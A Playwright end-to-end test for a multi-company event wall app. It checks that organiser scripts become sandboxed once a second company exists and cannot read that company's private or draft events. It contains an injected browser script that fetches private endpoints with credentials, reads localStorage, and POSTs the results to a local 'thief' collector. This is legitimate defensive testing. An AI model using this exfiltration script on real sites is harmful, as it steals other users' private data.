import { execFile } from "node:child_process";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { messages } from "@/lib/shared/messages";
import { wallMessages } from "@/lib/shared/messages/wall";
import { makePhoto } from "../../support/pictures";
import { Installation, withoutSettings } from "../support/installation";
import { Organiser } from "../support/organiser";
import { Thief } from "../support/server/thief";
import { expect, test } from "../support/test";

const bootstrap = fileURLToPath(new URL("../../../host/bootstrap.mjs", import.meta.url));

/** Console messages of blocked scripts and pages. */
test.use({
  expectedErrors: [/sandbox|CORS|cross-origin|Refused|violates|Failed to load|ERR_|SecurityError|status of 40/i],
});

/** Runs in the browser: repeatedly requests another company's private data and reports every answer. */
function curious(thiefUrl: string, addresses: string[]) {
  const report = (what: string, value: unknown) =>
    void fetch(thiefUrl, {
      method: "POST",
      mode: "no-cors",
      body: JSON.stringify({ what, value: String(value) }),
    }).catch(() => {});
  async function round() {
    for (const address of addresses) {
      await fetch(address, { credentials: "include" }).then(
        async (answer) => report("answer", await answer.text()),
        () => report("refused", address),
      );
    }
    try {
      report("storage", JSON.stringify(Object.keys(localStorage)));
    } catch {
      report("refused", "storage");
    }
    report("round", window.origin);
    window.setTimeout(round, 300);
  }
  void round();
}

test("from the second company on, scripts no longer run in the walls' own pages and read only what is public", async ({
  browser,
  page,
}) => {
  test.setTimeout(240_000);
  const installation = await Installation.start((port) => ({ WALL_URL: `http://wall.localhost:${port}` }));
  const thief = await Thief.start();
  try {
    const { wallUrl, dataDir, port } = installation;
    const one = await Organiser.signIn(installation);
    const other = { email: "second@example.com", password: "another brand new one" };
    const secrets: string[] = [];
    const probe = (addresses: string[]) => `(${curious})(${JSON.stringify(thief.url)}, ${JSON.stringify(addresses)})`;
    const { id } = await one.call<{ id: string }>("POST", "/api/scripts/add-script", {
      script_name: "Curious",
      script: probe([]),
      script_placement: "footer",
      is_global: "no",
    });
    const event = await one.createEvent({ script_ids: [id] });
    const address = `${wallUrl}/event/${event.event_url_slug}`;

    // With one company, the server renders the script into the page.
    await page.goto(address).then((answer) => expect(answer?.status()).toBe(200));
    const lastRound = () => thief.loot.filter(({ what }) => what === "round").at(-1)?.value;
    // A round's value is the origin of the page that runs the script.
    await expect.poll(lastRound).toBe(new URL(wallUrl).origin);
    await expect(page.locator(`iframe[title="${wallMessages.scripts}"]`)).toHaveCount(0);

    await promisify(execFile)(
      process.execPath,
      [
        bootstrap,
        "--run",
        "host/account-create.ts",
        "--email",
        other.email,
        "--company",
        "Elsewhere",
        "--password",
        other.password,
      ],
      {
        cwd: path.dirname(path.dirname(bootstrap)),
        env: { ...withoutSettings(process.env), DATA_DIR: dataDir, PORT: String(port) },
      },
    );

    // Without a restart: in a freshly loaded page and in the open one.
    const fresh = await (await browser.newContext()).newPage();
    await fresh.goto(address).then((answer) => expect(answer?.status()).toBe(200));
    await expect(fresh.locator(`iframe[title="${wallMessages.scripts}"]`)).toHaveCount(1);
    await one.setStatus(await one.addReadyPost(event.id, await makePhoto({ width: 64, height: 64 })), "approve");
    // The page learns of the second company with its next poll, within a minute.
    await page.evaluate(() => window.dispatchEvent(new Event("online")));
    await expect(page.locator(`iframe[title="${wallMessages.scripts}"]`)).toHaveCount(1, { timeout: 75_000 });
    await fresh.context().close();

    // The other company's closed events, in a browser that has unlocked both.
    const two = await Organiser.signIn({ url: installation.url, admin: other });
    const locked = await two.createEvent({
      event_name: "Sealed gathering",
      event_status: "Private",
      password: "open sesame",
    });
    const draft = await two.createEvent({ event_name: "Hidden gathering", event_status: "Draft" });
    for (const { id: eventId, event_url_slug } of [locked, draft]) {
      secrets.push(
        ...[
          `event-by-slug/${event_url_slug}`,
          `get-approved-event-posts/${eventId}`,
          `wall-changes/${eventId}?since=0`,
        ],
      );
    }
    const addresses = secrets.map((call) => `${wallUrl}/api/events/${call}`);
    await page.goto(`${wallUrl}/event/${locked.event_url_slug}`);
    await page.getByLabel("Password", { exact: true }).fill("open sesame");
    await page.keyboard.press("Enter");
    await expect(page.getByText(wallMessages.noPosts)).toBeVisible();
    const { ticket } = await two.call<{ ticket: string }>(
      "POST",
      `/api/events/create-view-ticket/${draft.event_url_slug}`,
    );
    await page.goto(`${wallUrl}/event/${draft.event_url_slug}#ticket=${encodeURIComponent(ticket)}`);
    await expect(page.getByText(messages.events.draftRibbon)).toBeVisible();
    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }));
    for (const { event_url_slug } of [locked, draft]) expect(stored).not.toContain(event_url_slug);

    await one.call("PUT", `/api/scripts/update-script/${id}`, {
      script_name: "Curious",
      script: probe(addresses),
      script_placement: "footer",
      is_global: "no",
    });
    thief.loot.length = 0;
    await page.goto(address);
    await expect.poll(() => thief.count("round")).toBeGreaterThan(1);
    // The origin of a sandboxed frame.
    expect(lastRound()).toBe("null");
    expect(thief.loot.filter(({ what }) => what === "answer")).toEqual([]);
    expect(JSON.stringify(thief.loot.filter(({ what }) => what !== "refused"))).not.toMatch(/gathering/);
    expect(thief.count("refused")).toBeGreaterThanOrEqual(addresses.length);

    // The console tells the organiser why.
    const office = await browser.newContext({ baseURL: installation.url });
    const login = await office.request.post("/api/auth/login", {
      data: { email_id: other.email, password: other.password },
    });
    const { accessToken, refreshToken, user } = await login.json();
    const scripts = await office.newPage();
    await scripts.goto("/icon.svg");
    await scripts.evaluate(
      (session) => {
        for (const [key, value] of Object.entries(session)) window.localStorage.setItem(key, value);
      },
      { accessToken, refreshToken, email: user.email, role: user.role } as Record<string, string>,
    );
    await scripts.goto("/user/scripts");
    await expect(scripts.getByText(messages.scripts.whyInFrame["several-accounts"])).toBeVisible();
    await office.close();
  } finally {
    thief.close();
    await installation.dispose();
  }
});
